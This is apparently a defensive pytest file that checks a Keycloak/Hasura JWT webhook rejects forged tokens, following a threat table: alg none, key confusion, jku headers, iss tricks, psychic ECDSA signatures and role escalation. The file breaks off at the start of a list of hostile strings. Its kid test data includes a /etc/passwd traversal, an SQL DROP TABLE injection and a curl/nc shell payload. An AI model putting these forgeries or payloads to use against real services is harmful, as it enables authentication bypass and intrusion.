"""One test per row of the threat model's "forged or misused tokens" table (SECURITY.md), over real HTTP.

Every case goes through `AdversarialStack.expect_rejected`: Hasura's GET and POST mode calls get a
401 with the row's reason code, the attacker host sees no request, the fake Keycloak sees nothing
but certs GETs of configured realms (at most the stated number), and the database audit holds a
row for each call (SQLite, written by the real writer, awaited with `flushed()`), with no part of
the token in it. Most rows also carry a positive control: the same stack accepts the honest token.
"""

from __future__ import annotations

import asyncio
import io
import re
import time
import uuid
from collections.abc import Callable
from pathlib import Path
from typing import Any, Final

import anyio
import httpx
import orjson
import pytest

from tests.security.forge import (
    P256_N,
    compact_json,
    ecdsa_der,
    ecdsa_raw,
    flip_last_bits,
    header_of,
    parts,
    payload_of,
    signature_of,
    signed_bytes,
    with_signature,
)
from tests.security.support import OTHER_TENANT, TENANT, AdversarialStack, adversarial_stack, b64url, bearer
from webhook.app import create_app
from webhook.audit.record import MemorySink
from webhook.observability.decisionlog import DecisionLog
from webhook.settings import Settings
from webhook.testing.keycloak import DROP, HASURA_CLAIMS, FakeKeycloak, attacker_key, sign_raw
from webhook.testing.server import serve_asgi
from webhook.wiring import Dependencies

pytestmark = pytest.mark.anyio
Build = Callable[[AdversarialStack], str]

#: SECURITY.md's threat table row ("attack" column) -> the test that covers it.
ROWS: dict[str, str] = {
    "`alg: none` / empty signature": "test_alg_none_or_empty_signature",
    "HS256 signed with the realm's public RSA key as HMAC secret (key confusion)": "test_hs256_key_confusion",
    "header `jwk` (embedded key), `jku`, `x5u`, `x5c`": "test_header_jwk_jku_x5u_x5c",
    "`iss` pointing at an attacker host, or at our Keycloak with a path trick "
    "(`/realms/../`, `%2e%2e`, `?`, `#`, `@`, unicode, very long)": "test_iss_attacker_host_or_path_trick",
    "`kid` with path/SQL/shell characters, or huge": "test_kid_path_sql_shell_or_huge",
    "token from realm A whose claims name tenant B (or event B)": "test_realm_a_token_naming_tenant_or_event_b",
    "ID token or refresh token presented as access token": "test_id_or_refresh_token_as_access_token",
    "expired / not yet valid / `iat` far in the future": "test_expired_not_yet_valid_iat_in_future",
    "signature by an `enc` key, or by a key removed from the JWKS": "test_signature_by_enc_key_or_removed_key",
    'ECDSA "psychic signature" (r = s = 0), truncated or non-canonical signatures': (
        "test_psychic_truncated_or_non_canonical_signature"
    ),
    "requested `X-Hasura-Role` not in `x-hasura-allowed-roles`": "test_requested_role_not_allowed",
    "claims of the wrong type (role list as a string, numbers, nested objects, duplicate JSON keys)": (
        "test_claims_of_wrong_type"
    ),
    "JWE (5-part) token, nested JWT, `crit` header with unknown entries, `b64: false`": "test_jwe_nested_jwt_crit_b64",
    "oversize header or token (MBs), many Authorization headers, non-ASCII, bad base64": (
        "test_oversize_many_headers_non_ascii_bad_base64"
    ),
    "a token from an event (voters') realm acting at tenant or platform level": (
        "test_event_realm_token_acting_at_tenant_or_platform_level"
    ),
    "strings a backend refuses (U+0000, lone surrogates) or that forge log lines (newlines, `key=value`) "
    "in any claimed field": "test_strings_a_backend_refuses_or_that_forge_log_lines",
    "a key removed by Keycloak coming back into use after a cache eviction": (
        "test_removed_key_back_after_cache_eviction"
    ),
    "a logout token that is forged, replayed, from another realm, or without the back-channel `events` member": (
        "test_logout_token_forged_replayed_other_realm_or_without_events"
    ),
}
SECURITY_MD: Final = Path(__file__).resolve().parents[2] / "SECURITY.md"
TABLE_HEADER: Final = "| attack (threat model) | mechanism | test |"


def security_md_rows() -> list[tuple[str, str]]:
    """(attack, test cell) of each row of SECURITY.md's table of forged or misused tokens."""
    text = SECURITY_MD.read_text(encoding="utf-8")
    assert TABLE_HEADER in text, "SECURITY.md lost its threat table"
    table = text.split(TABLE_HEADER, 1)[1].split("\n\n", 1)[0]
    rows = []
    for line in table.strip().splitlines()[1:]:  # the |---| line first
        cells = [cell.strip() for cell in line.strip().strip("|").split(" | ")]
        assert len(cells) == 3, line
        rows.append((cells[0], cells[2]))
    return rows


def test_rows_match_the_threat_model_in_security_md() -> None:
    """SECURITY.md (the project's threat model, in every clone) lists exactly these rows, in this order,
    each naming the test here that covers it; and every such test exists."""
    names = {name for name in globals() if name.startswith("test_")}
    assert set(ROWS.values()) <= names
    rows = security_md_rows()
    assert [attack for attack, _ in rows] == list(ROWS)
    for attack, tests in rows:
        assert f"`{ROWS[attack]}`" in tests, (attack, tests)


def now() -> int:
    return int(time.time())


# --------------------------------------------------------------------------- 1. alg none / empty signature


def _none(alg: str, signature: str) -> Build:
    def build(s: AdversarialStack) -> str:
        realm = s.fresh_realm()
        token = s.keycloak.mint(realm.name)
        unsigned = sign_raw({**header_of(token), "alg": alg}, payload_of(token), None, alg="none")
        return unsigned + (parts(token)[2] if signature == "original" else signature)

    return build


@pytest.mark.parametrize(
    ("build", "reason"),
    [
        pytest.param(_none("none", ""), "malformed_token", id="none-empty-signature"),
        pytest.param(_none("none", "AAAA"), "alg_not_allowed", id="none-junk-signature"),
        pytest.param(_none("none", "original"), "alg_not_allowed", id="none-original-signature"),
        pytest.param(_none("RS256", ""), "malformed_token", id="rs256-empty-signature"),
        pytest.param(_none("None", "AAAA"), "alg_not_allowed", id="None"),
    ],
)
async def test_alg_none_or_empty_signature(sec: AdversarialStack, build: Build, reason: str) -> None:
    """Refused before any key lookup: a never-loaded realm's JWKS is not even fetched."""
    await sec.expect_rejected(bearer(build(sec)), reason, fetches=0)


# --------------------------------------------------------------------------- 2. key confusion


def _hs256_with_public_pem(s: AdversarialStack) -> str:
    realm = s.fresh_realm()
    token = s.keycloak.mint(realm.name)
    return sign_raw({**header_of(token), "alg": "HS256"}, payload_of(token), realm.public_key_pem(), alg="HS256")


def _header_alg_swap(header_alg: str, signing: str) -> Build:
    """The header names `header_alg` but the kid is the realm's `signing` key (kty/alg mismatch)."""

    def build(s: AdversarialStack) -> str:
        kid = s.other.signing_kids[0 if signing == "ES256" else 1]
        return s.keycloak.mint(s.other.name, kid=kid, header={"alg": header_alg}, alg=signing)

    return build


@pytest.mark.parametrize(
    ("build", "reason"),
    [
        pytest.param(_hs256_with_public_pem, "alg_not_allowed", id="hs256-public-pem"),
        pytest.param(_header_alg_swap("RS256", "ES256"), "key_mismatch", id="rs256-header-ec-key"),
        pytest.param(_header_alg_swap("ES256", "RS256"), "key_mismatch", id="es256-header-rsa-key"),
        pytest.param(_header_alg_swap("PS256", "RS256"), "alg_not_allowed", id="ps256-not-configured"),
    ],
)
async def test_hs256_key_confusion(sec: AdversarialStack, build: Build, reason: str) -> None:
    """Only configured asymmetric algorithms; a key serves only its own kty/alg."""
    await sec.expect_rejected(bearer(build(sec)), reason, fetches=0)


# --------------------------------------------------------------------------- 3. jwk / jku / x5u / x5c


def _url_header(name: str, signer: str) -> Build:
    def build(s: AdversarialStack) -> str:
        realm = s.fresh_realm()
        if signer == "attacker":
            key = s.attacker.key
            return s.keycloak.mint(
                realm.name, header={name: s.attacker.jwks_url, "kid": s.attacker.kid}, signing_key=key
            )
        return s.keycloak.mint(realm.name, header={name: s.attacker.jwks_url})

    return build


def _embedded_jwk(s: AdversarialStack) -> str:
    realm = s.fresh_realm()
    key = attacker_key("ES256")
    jwk = {**key.as_dict(private=False), "kid": "attacker"}
    return s.keycloak.mint(realm.name, header={"jwk": jwk, "alg": "ES256", "kid": "attacker"}, signing_key=key)


def _x5c(full: bool) -> Build:
    def build(s: AdversarialStack) -> str:
        realm = s.fresh_realm()
        chain = s.tenant.jwks()["keys"][0]["x5c"] if full else ["MIIBszCCAVmgAwIBAgIU"]
        return s.keycloak.mint(realm.name, header={"x5c": chain}, signing_key=s.attacker.key)

    return build


@pytest.mark.parametrize(
    ("build", "reason"),
    [
        pytest.param(_url_header("jku", "attacker"), "header_not_allowed", id="jku-attacker-signed"),
        pytest.param(_url_header("jku", "realm"), "header_not_allowed", id="jku-realm-signed"),
        pytest.param(_url_header("x5u", "attacker"), "header_not_allowed", id="x5u-attacker-signed"),
        pytest.param(_embedded_jwk, "header_not_allowed", id="embedded-jwk"),
        pytest.param(_x5c(full=False), "header_not_allowed", id="x5c"),
        # a real certificate chain does not even fit the 1 KiB header cap
        pytest.param(_x5c(full=True), "malformed_token", id="x5c-full-certificate"),
    ],
)
async def test_header_jwk_jku_x5u_x5c(sec: AdversarialStack, build: Build, reason: str) -> None:
    """Key-carrying headers are refused outright: no key or URL is ever taken from a token."""
    await sec.expect_rejected(bearer(build(sec)), reason, fetches=0)


# --------------------------------------------------------------------------- 4. iss tricks


def _iss(make: Callable[[AdversarialStack, str, str], Any]) -> Build:
    """A genuine token of the tenant realm whose `iss` is replaced (and re-signed by the real key)."""

    def build(s: AdversarialStack) -> str:
        return s.keycloak.mint(s.tenant.name, claims={"iss": make(s, s.keycloak.url, s.tenant.name)})

    return build


_LOOKALIKE = str.maketrans({"e": "\u0435", "a": "\u0430"})  # Cyrillic e and a
ISS_TRICKS: dict[str, Callable[[AdversarialStack, str, str], Any]] = {
    "attacker-host": lambda s, kc, r: f"{s.attacker.url}/realms/{r}",
    "attacker-host-same-path": lambda s, kc, r: f"{s.attacker.url}{kc[len('http://127.0.0.1') :]}/realms/{r}",
    "dotdot": lambda s, kc, r: f"{kc}/realms/../realms/{r}",
    "dotdot-after": lambda s, kc, r: f"{kc}/realms/{r}/../../evil",
    "pct2e2e": lambda s, kc, r: f"{kc}/realms/%2e%2e/realms/{r}",
    "pct2f": lambda s, kc, r: f"{kc}/realms/{r}%2f..%2f..%2fevil",
    "pct-encoded-dash": lambda s, kc, r: f"{kc}/realms/{r.replace('-', '%2D', 1)}",
    "query": lambda s, kc, r: f"{kc}/realms/{r}?realm=master",
    "fragment": lambda s, kc, r: f"{kc}/realms/{r}#x",
    "userinfo-at": lambda s, kc, r: kc.replace("//", "//evil@") + f"/realms/{r}",
    "at-attacker": lambda s, kc, r: f"{kc}@{s.attacker.url[len('http://') :]}/realms/{r}",
    "unicode-lookalike": lambda s, kc, r: f"{kc}/realms/{r.translate(_LOOKALIKE)}",
    "fullwidth-digit": lambda s, kc, r: f"{kc}/realms/{r[:-1]}\uff11",
    "uppercase-uuid": lambda s, kc, r: f"{kc}/realms/tenant-{r[7:].upper()}",
    "trailing-slash": lambda s, kc, r: f"{kc}/realms/{r}/",
    "double-slash": lambda s, kc, r: f"{kc}//realms/{r}",
    "backslash": lambda s, kc, r: f"{kc}\\realms\\{r}",
    "realms-case": lambda s, kc, r: f"{kc}/Realms/{r}",
    "scheme-case": lambda s, kc, r: f"HTTP{kc[4:]}/realms/{r}",
    "localhost-alias": lambda s, kc, r: f"{kc.replace('127.0.0.1', 'localhost')}/realms/{r}",
    "leading-space": lambda s, kc, r: f" {kc}/realms/{r}",
    "trailing-newline": lambda s, kc, r: f"{kc}/realms/{r}\n",
    "nul-byte": lambda s, kc, r: f"{kc}/realms/{r}\x00",
    "very-long": lambda s, kc, r: f"{kc}/realms/{r}" + "/a" * 400,
    "long-realm": lambda s, kc, r: f"{kc}/realms/{r}{'-event-' + r[7:]}x",
    "master": lambda s, kc, r: f"{kc}/realms/master",
    "list": lambda s, kc, r: [f"{kc}/realms/{r}"],
    "object": lambda s, kc, r: {"iss": f"{kc}/realms/{r}"},
    "number": lambda s, kc, r: 1,
    "null": lambda s, kc, r: None,
    "missing": lambda s, kc, r: DROP,
}


@pytest.mark.parametrize("trick", list(ISS_TRICKS), ids=list(ISS_TRICKS))
async def test_iss_attacker_host_or_path_trick(sec: AdversarialStack, trick: str) -> None:
    """`iss` must be exactly a configured base + `/realms/` + a trusted realm name; nothing is fetched."""
    await sec.expect_rejected(bearer(_iss(ISS_TRICKS[trick])(sec)), "unknown_issuer", fetches=0)


# --------------------------------------------------------------------------- 5. kid tricks

KID_TRICKS: dict[str, tuple[Any, str]] = {
    "path": ("../../../../etc/passwd", "unknown_kid"),
    "path-certs": ("../certs", "unknown_kid"),
    "sql": ("x' OR '1'='1'; DROP TABLE rejected_token;--", "unknown_kid"),
    "shell": ("$(curl http://127.0.0.1:1/x)`id`|nc -e sh", "unknown_kid"),
    "nul": ("k\x00id", "unknown_kid"),
    "newline": ("kid\r\nX-Injected: 1", "unknown_kid"),
    "url": ("http://127.0.0.1:1/jwks.json", "unknown_kid"),
    "empty": ("", "unknown_kid"),
    "huge-in-bounds": ("k" * 700, "unknown_kid"),
    "huge-over-header-cap": ("k" * 5000, "malformed_token"),
    "number": (1, "malformed_token"),
    "list": (["a"], "malformed_token"),
    "null": (None, "malformed_token"),
    "missing": (DROP, "unknown_kid"),
}


@pytest.mark.parametrize("trick", list(KID_TRICKS), ids=list(KID_TRICKS))
async def test_kid_path_sql_shell_or_huge(sec: AdversarialStack, trick: str) -> None:
    """`kid` is an opaque dictionary key: never a path, query or URL; at most one refetch per realm."""
    kid, reason = KID_TRICKS[trick]
    token = sec.keycloak.mint(sec.tenant.name, header={"kid": kid})
    await sec.expect_rejected(bearer(token), reason, fetches=1)


async def test_kid_path_sql_shell_or_huge_refetch_is_single_flight(sec: AdversarialStack) -> None:
    """50 concurrent unknown kids once a refetch is due: one fetch of the realm's own certs, then none."""
    sec.clock.advance(sec.settings.jwks_min_refetch + 1)
    sec.new_keycloak_requests()
    tokens = [sec.keycloak.mint(sec.tenant.name, header={"kid": f"junk-{i}"}) for i in range(50)]
    hasura = sec.hasura("GET")
    verdicts = await asyncio.gather(*(hasura.authenticate(bearer(t)) for t in tokens))
    assert {orjson.loads(v.hook_body)["reason"] for v in verdicts} == {"unknown_kid"}
    fetched = sec.new_keycloak_requests()
    assert fetched == [("GET", f"/realms/{sec.tenant.name}/protocol/openid-connect/certs")]
    await sec.expect_rejected(bearer(sec.keycloak.mint(sec.tenant.name, header={"kid": "again"})), "unknown_kid")


# --------------------------------------------------------------------------- 6. realm A naming tenant B


def _cross(s: AdversarialStack, case: str) -> str:
    if case == "tenant-claim":
        return s.keycloak.mint(s.tenant.name, hasura_claims={"x-hasura-tenant-id": OTHER_TENANT})
    if case == "event-claim-in-tenant-realm":
        return s.keycloak.mint(s.tenant.name, hasura_claims={"x-hasura-event-id": s.event.event_id})
    if case == "event-realm-other-event":
        return s.keycloak.mint(
            s.event.name, hasura_claims={"x-hasura-event-id": "00000000-0000-4000-8000-000000000000"}
        )
    if case == "event-realm-other-tenant":
        return s.keycloak.mint(s.event.name, hasura_claims={"x-hasura-tenant-id": OTHER_TENANT})
    if case == "iss-of-b-signed-by-a":
        return s.keycloak.mint(s.tenant.name, claims={"iss": s.other.issuer})
    # signed by A's key, but naming B's issuer and B's kid
    return s.keycloak.mint(
        s.tenant.name, claims={"iss": s.other.issuer}, kid=s.other.signing_kids[1], signing_key=s.tenant.private_key()
    )


@pytest.mark.parametrize(
    ("case", "reason"),
    [
        ("tenant-claim", "realm_mismatch"),
        ("event-claim-in-tenant-realm", "realm_mismatch"),
        ("event-realm-other-event", "realm_mismatch"),
        ("event-realm-other-tenant", "realm_mismatch"),
        ("iss-of-b-signed-by-a", "unknown_kid"),
        ("iss-and-kid-of-b-signed-by-a", "bad_signature"),
    ],
)
async def test_realm_a_token_naming_tenant_or_event_b(sec: AdversarialStack, case: str, reason: str) -> None:
    """The tenant and event a session gets are the issuing realm's own, whatever the claims say."""
    await sec.expect_rejected(bearer(_cross(sec, case)), reason, fetches=1)


# --------------------------------------------------------------------------- 7. typ


@pytest.mark.parametrize("typ", ["ID", "Refresh", "Offline", "bearer", "Bearer ", "", "JWT"])
async def test_id_or_refresh_token_as_access_token(sec: AdversarialStack, typ: str) -> None:
    """Only Keycloak access tokens (`typ: Bearer`, exactly) open a session."""
    await sec.expect_rejected(bearer(sec.keycloak.mint(sec.tenant.name, typ=typ)), "wrong_token_type")


async def test_id_or_refresh_token_as_access_token_missing_or_typed(sec: AdversarialStack) -> None:
    for typ in (DROP, ["Bearer"], 1):
        token = sec.keycloak.mint(sec.tenant.name, claims={"typ": typ})
        await sec.expect_rejected(bearer(token), "wrong_token_type", modes=("GET",))


# --------------------------------------------------------------------------- 8. time claims


@pytest.mark.parametrize(
    ("case", "reason"),
    [
        ("expired-long-ago", "expired"),
        ("expired-beyond-leeway", "expired"),
        ("nbf-in-future", "not_yet_valid"),
        ("iat-far-in-future", "not_yet_valid"),
        ("exp-equals-now-minus-leeway", "expired"),
    ],
)
async def test_expired_not_yet_valid_iat_in_future(sec: AdversarialStack, case: str, reason: str) -> None:
    """Time claims are checked with the configured leeway (30 s) and no more."""
    leeway = sec.settings.leeway
    t = now()
    table: dict[str, dict[str, Any]] = {
        "expired-long-ago": {"now": t - 1000, "lifetime": 300},
        "expired-beyond-leeway": {"now": t - 300 - leeway - 5, "lifetime": 300},
        "nbf-in-future": {"claims": {"nbf": t + leeway + 60}},
        "iat-far-in-future": {"now": t + 3600},
        "exp-equals-now-minus-leeway": {"claims": {"exp": t - leeway - 1}},
    }
    kwargs = table[case]
    await sec.expect_rejected(bearer(sec.keycloak.mint(sec.tenant.name, **kwargs)), reason)
    # positive control: inside the leeway is accepted
    await sec.expect_session(bearer(sec.keycloak.mint(sec.tenant.name, now=t - 300 - leeway + 10, lifetime=300)))
    await sec.expect_session(bearer(sec.keycloak.mint(sec.tenant.name, now=t + leeway - 10)))


# --------------------------------------------------------------------------- 9. enc key / removed key


async def test_signature_by_enc_key_or_removed_key(sec: AdversarialStack) -> None:
    """The `enc` key never verifies; a removed key stops verifying as soon as the JWKS is refetched."""
    for realm in (sec.tenant, sec.other, sec.event):
        assert realm.enc_kid is not None
        token = sec.keycloak.mint(realm.name, kid=realm.enc_kid)
        await sec.expect_rejected(bearer(token), "unknown_kid", fetches=1)

    realm = sec.fresh_realm()
    old_token = sec.keycloak.mint(realm.name)
    await sec.expect_session(bearer(old_token))
    old_kid = realm.active_kid
    new_kid = realm.rotate(keep_old=True)
    realm.remove_key(old_kid)
    sec.clock.advance(sec.settings.jwks_min_refetch + 1)  # the refetch an unknown kid may trigger is due
    new_token = sec.keycloak.mint(realm.name, kid=new_kid)
    await sec.expect_session(bearer(new_token))  # one refetch: the new key is in, the old one out
    await sec.expect_rejected(bearer(old_token), "unknown_kid", fetches=0)
    fresh_old = sec.keycloak.mint(realm.name, kid=new_kid, signing_key=attacker_key())  # new kid, wrong key
    await sec.expect_rejected(bearer(fresh_old), "bad_signature")


# --------------------------------------------------------------------------- 10. signatures


def _ec(s: AdversarialStack, transform: Callable[[bytes], bytes | str]) -> str:
    token = s.keycloak.mint(s.other.name, kid=s.other.signing_kids[0])
    assert header_of(token)["alg"] == "ES256"
    return with_signature(token, transform(signature_of(token)))


def _rsa(s: AdversarialStack, transform: Callable[[bytes], bytes | str]) -> str:
    token = s.keycloak.mint(s.tenant.name)
    return with_signature(token, transform(signature_of(token)))


SIGNATURES: dict[str, tuple[Callable[[AdversarialStack], str], str]] = {
    "psychic-r-s-zero": (lambda s: _ec(s, lambda sig: bytes(64)), "bad_signature"),
    "r-s-equal-n": (lambda s: _ec(s, lambda sig: ecdsa_raw(P256_N, P256_N)), "bad_signature"),
    "r-zero": (lambda s: _ec(s, lambda sig: bytes(32) + sig[32:]), "bad_signature"),
    "s-zero": (lambda s: _ec(s, lambda sig: sig[:32] + bytes(32)), "bad_signature"),
    "s-plus-n": (
        lambda s: _ec(s, lambda sig: sig[:32] + (int.from_bytes(sig[32:], "big") + P256_N).to_bytes(33, "big")),
        "bad_signature",
    ),
    "ec-truncated": (lambda s: _ec(s, lambda sig: sig[:-1]), "bad_signature"),
    "ec-half": (lambda s: _ec(s, lambda sig: sig[:32]), "bad_signature"),
    "ec-leading-zero": (lambda s: _ec(s, lambda sig: b"\x00" + sig), "bad_signature"),
    "ec-der-encoded": (lambda s: _ec(s, ecdsa_der), "bad_signature"),
    "rsa-truncated": (lambda s: _rsa(s, lambda sig: sig[:-1]), "bad_signature"),
    "rsa-leading-zero": (lambda s: _rsa(s, lambda sig: b"\x00" + sig), "bad_signature"),
    "rsa-one-byte": (lambda s: _rsa(s, lambda sig: sig[:1]), "bad_signature"),
    "rsa-bit-flip": (lambda s: _rsa(s, lambda sig: sig[:-1] + bytes([sig[-1] ^ 1])), "bad_signature"),
    "b64-unused-bits": (lambda s: _rsa(s, lambda sig: flip_last_bits(b64url(sig))), "malformed_token"),
    "b64-padding": (lambda s: _rsa(s, lambda sig: b64url(sig) + "=="), "malformed_token"),
    "b64-std-alphabet": (
        lambda s: _rsa(s, lambda sig: "+/" + b64url(sig)[2:]),
        "malformed_token",
    ),
}


@pytest.mark.parametrize("case", list(SIGNATURES), ids=list(SIGNATURES))
async def test_psychic_truncated_or_non_canonical_signature(sec: AdversarialStack, case: str) -> None:
    """ES256 is enabled here; no crafted or re-encoded signature verifies (CVE-2022-21449 class)."""
    build, reason = SIGNATURES[case]
    await sec.expect_rejected(bearer(build(sec)), reason)
    await sec.expect_session(bearer(sec.keycloak.mint(sec.other.name, kid=sec.other.signing_kids[0])))


# --------------------------------------------------------------------------- 11. role


async def test_requested_role_not_allowed(sec: AdversarialStack) -> None:
    """A role outside the token's list, or a forbidden one, is a 401: never a silent downgrade."""
    token = sec.keycloak.mint(sec.tenant.name, roles=["admin-user", "voter-read", "admin"])
    for role in ("root", "admin", "Admin-User", "voter-read,admin", "tally-write"):
        await sec.expect_rejected([*bearer(token).items(), ("X-Hasura-Role", role)], "role_not_allowed")
    two = [*bearer(token).items(), ("X-Hasura-Role", "voter-read"), ("x-hasura-role", "admin-user")]
    await sec.expect_rejected(two, "role_not_allowed")
    only_admin = sec.keycloak.mint(sec.tenant.name, roles=["admin"], default_role="admin")
    await sec.expect_rejected(bearer(only_admin), "role_not_allowed")
    verdict = await sec.expect_session([*bearer(token).items(), ("X-Hasura-Role", "voter-read")])
    assert verdict.role == "voter-read"


# --------------------------------------------------------------------------- 12. claim types


def _hasura(**claims: Any) -> dict[str, Any]:
    return {"hasura_claims": claims}


CLAIM_TYPES: dict[str, tuple[dict[str, Any], str]] = {
    "roles-string": (_hasura(**{"x-hasura-allowed-roles": "admin-user"}), "claims_invalid"),
    "roles-numbers": (_hasura(**{"x-hasura-allowed-roles": [1, 2]}), "claims_invalid"),
    "roles-nested": (_hasura(**{"x-hasura-allowed-roles": [["admin-user"]]}), "claims_invalid"),
    "roles-object": (_hasura(**{"x-hasura-allowed-roles": {"admin-user": True}}), "claims_invalid"),
    "roles-empty": (_hasura(**{"x-hasura-allowed-roles": []}), "claims_invalid"),
    "roles-null": (_hasura(**{"x-hasura-allowed-roles": None}), "claims_invalid"),
    "default-role-number": (_hasura(**{"x-hasura-default-role": 1}), "claims_invalid"),
    "default-role-list": (_hasura(**{"x-hasura-default-role": ["admin-user"]}), "claims_invalid"),
    "user-id-object": (_hasura(**{"x-hasura-user-id": {"id": "x"}}), "claims_invalid"),
    "user-id-number": (_hasura(**{"x-hasura-user-id": 42}), "claims_invalid"),
    "user-id-empty": (_hasura(**{"x-hasura-user-id": ""}), "claims_invalid"),
    "tenant-id-number": (_hasura(**{"x-hasura-tenant-id": 7}), "claims_invalid"),
    "tenant-id-list": (_hasura(**{"x-hasura-tenant-id": [OTHER_TENANT]}), "claims_invalid"),
    "namespace-string": ({"claims": {HASURA_CLAIMS: "{}"}}, "claims_invalid"),
    "namespace-list": ({"claims": {HASURA_CLAIMS: []}}, "claims_invalid"),
    "exp-string": ({"claims": {"exp": "9999999999"}}, "claims_invalid"),
    "exp-bool": ({"claims": {"exp": True}}, "claims_invalid"),
    "exp-object": ({"claims": {"exp": {"$gt": 0}}}, "claims_invalid"),
    "nbf-string": ({"claims": {"nbf": "0"}}, "claims_invalid"),
    "sub-number-no-user-id": ({"claims": {"sub": 5}, "hasura_claims": {"x-hasura-user-id": DROP}}, "claims_invalid"),
}


@pytest.mark.parametrize("case", list(CLAIM_TYPES), ids=list(CLAIM_TYPES))
async def test_claims_of_wrong_type(sec: AdversarialStack, case: str) -> None:
    """Genuinely signed tokens with mistyped claims: 401 with a reason, never a 500."""
    kwargs, reason = CLAIM_TYPES[case]
    await sec.expect_rejected(bearer(sec.keycloak.mint(sec.tenant.name, **kwargs)), reason)


@pytest.mark.parametrize("where", ["top-level-iss", "nested-role", "escaped-duplicate", "header-alg"])
async def test_claims_of_wrong_type_duplicate_json_keys(sec: AdversarialStack, where: str) -> None:
    """Duplicate member names (which parsers resolve differently) are refused even when signed."""
    token = sec.keycloak.mint(sec.tenant.name)
    header, payload = compact_json(header_of(token)), compact_json(payload_of(token))
    if where == "top-level-iss":
        payload = payload[:-1] + b',"iss":"' + sec.attacker.url.encode() + b'/realms/x"}'
    elif where == "nested-role":
        payload = payload.replace(
            b'"x-hasura-default-role":', b'"x-hasura-default-role":"admin","x-hasura-default-role":'
        )
    elif where == "escaped-duplicate":
        payload = payload[:-1] + b',"\\u0069ss":"' + sec.attacker.url.encode() + b'"}'
    else:
        header = b'{"alg":"none",' + header[1:]
    await sec.expect_rejected(bearer(signed_bytes(sec.tenant, header, payload)), "malformed_token")


# --------------------------------------------------------------------------- 13. JWE, nested, crit, b64


def _jwe(s: AdversarialStack) -> str:
    return ".".join([b64url(b'{"alg":"RSA-OAEP","enc":"A256GCM"}'), b64url(b"k" * 256), "aXY", "Y2lwaGVy", "dGFn"])


def _nested_jwt(s: AdversarialStack) -> str:
    inner = s.keycloak.mint(s.tenant.name)
    return signed_bytes(s.tenant, compact_json({"alg": "RS256", "kid": s.tenant.active_kid}), inner.encode())


def _extra_header(extra: dict[str, Any]) -> Build:
    def build(s: AdversarialStack) -> str:
        return s.keycloak.mint(s.fresh_realm().name, header=extra)

    return build


@pytest.mark.parametrize(
    ("build", "reason"),
    [
        pytest.param(_jwe, "malformed_token", id="jwe-5-parts"),
        pytest.param(lambda s: s.keycloak.mint(s.tenant.name) + ".x", "malformed_token", id="4-parts"),
        pytest.param(_nested_jwt, "malformed_token", id="nested-jwt-payload"),
        pytest.param(_extra_header({"cty": "JWT"}), "header_not_allowed", id="cty-jwt"),
        pytest.param(_extra_header({"crit": ["exp"]}), "header_not_allowed", id="crit-unknown"),
        pytest.param(_extra_header({"crit": ["b64"], "b64": False}), "header_not_allowed", id="b64-false-crit"),
        pytest.param(_extra_header({"b64": False}), "header_not_allowed", id="b64-false"),
        pytest.param(_extra_header({"zip": "DEF"}), "header_not_allowed", id="zip"),
        pytest.param(_extra_header({"enc": "A256GCM"}), "header_not_allowed", id="enc"),
    ],
)
async def test_jwe_nested_jwt_crit_b64(sec: AdversarialStack, build: Build, reason: str) -> None:
    """Only plain compact JWS with Keycloak's three header members; nothing is fetched for the rest."""
    await sec.expect_rejected(bearer(build(sec)), reason, fetches=0)


# --------------------------------------------------------------------------- 14. size, repetition, encoding


def _big_payload(s: AdversarialStack, size: int) -> str:
    return s.keycloak.mint(s.tenant.name, claims={"padding": "p" * size})


OVERSIZE: dict[str, tuple[Callable[[AdversarialStack], Any], str]] = {
    "token-20kb": (lambda s: bearer(_big_payload(s, 20_000)), "malformed_token"),
    "token-150kb": (lambda s: bearer(_big_payload(s, 150_000)), "malformed_token"),
    "header-segment-2kb": (
        lambda s: bearer(s.keycloak.mint(s.tenant.name, header={"x": "h" * 2000})),
        "malformed_token",
    ),
    "bad-base64-chars": (lambda s: bearer("eyJ!!!.eyJ@@@.c2ln"), "malformed_token"),
    "bad-base64-length": (lambda s: bearer("a.b.c"), "malformed_token"),
    "space-inside": (lambda s: bearer(s.keycloak.mint(s.tenant.name).replace(".", ". ", 1)), "malformed_token"),
    "ideographic-space-after": (lambda s: bearer(s.keycloak.mint(s.tenant.name) + "\u3000"), "malformed_token"),
    "nel-after": (lambda s: bearer(s.keycloak.mint(s.tenant.name) + "\x85"), "malformed_token"),
    "fullwidth-dot": (lambda s: bearer(s.keycloak.mint(s.tenant.name).replace(".", "\uff0e")), "malformed_token"),
    "non-ascii-letter": (lambda s: bearer("\u00e9" + s.keycloak.mint(s.tenant.name)), "malformed_token"),
    "zero-width-space": (lambda s: bearer(s.keycloak.mint(s.tenant.name) + "\u200b"), "malformed_token"),
    "two-authorization": (
        lambda s: [
            ("Authorization", f"Bearer {s.keycloak.mint(s.tenant.name)}"),
            ("authorization", f"Bearer {s.keycloak.mint(s.tenant.name)}"),
        ],
        "malformed_token",
    ),
    "basic-scheme": (lambda s: {"Authorization": "Basic YWRtaW46YWRtaW4="}, "malformed_token"),
    "no-token": (lambda s: {}, "missing_token"),
}


@pytest.mark.parametrize("case", list(OVERSIZE), ids=list(OVERSIZE))
async def test_oversize_many_headers_non_ascii_bad_base64(sec: AdversarialStack, case: str) -> None:
    """Refused by the parser, fast, before any key lookup (GET mode non-ASCII: see test_oversize.py)."""
    build, reason = OVERSIZE[case]
    headers = build(sec)
    ascii_only = all(str(v).isascii() for _, v in (headers.items() if isinstance(headers, dict) else headers))
    await sec.expect_rejected(headers, reason, modes=("GET", "POST") if ascii_only else ("POST",))


# --------------------------------------------------------------------------- 15. event realms' power


async def test_event_realm_token_acting_at_tenant_or_platform_level(tmp_path: Path) -> None:
    """With the battery's tenant as SUPER_ADMIN_TENANT_ID, its event (voters') realm's token listing
    platform-operator is refused that role in both modes; the tenant realm's own token gets it."""
    async with adversarial_stack(tmp_path, SUPER_ADMIN_TENANT_ID=TENANT, TOKEN_CACHE_REJECTIONS_SIZE="0") as s:
        roles = ["admin-user", "platform-operator", "tenant-create"]
        voter = s.keycloak.mint(s.event.name, roles=roles)
        for role in ("platform-operator", "tenant-create"):
            await s.expect_rejected([*bearer(voter).items(), ("X-Hasura-Role", role)], "role_not_allowed")
        await s.expect_session(bearer(voter))  # its own event's session is fine
        admin = s.keycloak.mint(s.tenant.name, roles=roles)
        verdict = await s.expect_session([*bearer(admin).items(), ("X-Hasura-Role", "platform-operator")])
        assert verdict.role == "platform-operator"


# --------------------------------------------------------------------------- 16. strings for sinks and logs

#: Claimed values a backend refuses or that would forge a console log line.
HOSTILE: Final = (
    "nul\x00inside",
